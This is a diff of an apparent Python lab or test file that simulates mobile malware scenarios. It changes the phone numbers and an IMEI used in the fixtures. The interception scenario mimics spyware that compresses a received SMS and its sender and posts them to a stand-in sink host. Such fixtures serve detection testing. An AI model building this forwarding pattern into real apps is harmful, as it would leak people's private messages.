@@ -57,8 +57,8 @@ def premium_sms(lab: Lab) -> Lab:
 
 def interception(lab: Lab) -> Lab:
     """Forward a received SMS to a server, packed; then speak to it in cipher (as the SF63)."""
-    lab.wait(300).receive("+33698765432", planted.MESSAGE)
-    body = gzip.compress(json.dumps({"sms": planted.MESSAGE, "from": "+33698765432"}).encode())
+    lab.wait(300).receive("+33639985432", planted.MESSAGE)
+    body = gzip.compress(json.dumps({"sms": planted.MESSAGE, "from": "+33639985432"}).encode())
     frames = lab.wait(4).post("api.sink.example", "203.0.113.41", body)
     lab.planted("message", "ascii", "api.sink.example", frames)
     lab.planted("contact", "ascii", "api.sink.example", frames)
@@ -197,7 +197,7 @@ def home_registration(lab: Lab) -> Lab:
         f"REGISTER sip:{home} SIP/2.0",
         f"From: <sip:{planted.IMSI}@{home}>;tag=1",
         f"To: <sip:{planted.IMSI}@{home}>",
-        'Contact: <sip:x@10.45.0.2>;+sip.instance="<urn:gsma:imei:35442706-323347-0>"',
+        'Contact: <sip:x@10.45.0.2>;+sip.instance="<urn:gsma:imei:00101706-323347-0>"',
         "Content-Length: 0",
     ]
     where = lab.address(f"pcscf.{home}", "203.0.113.99")
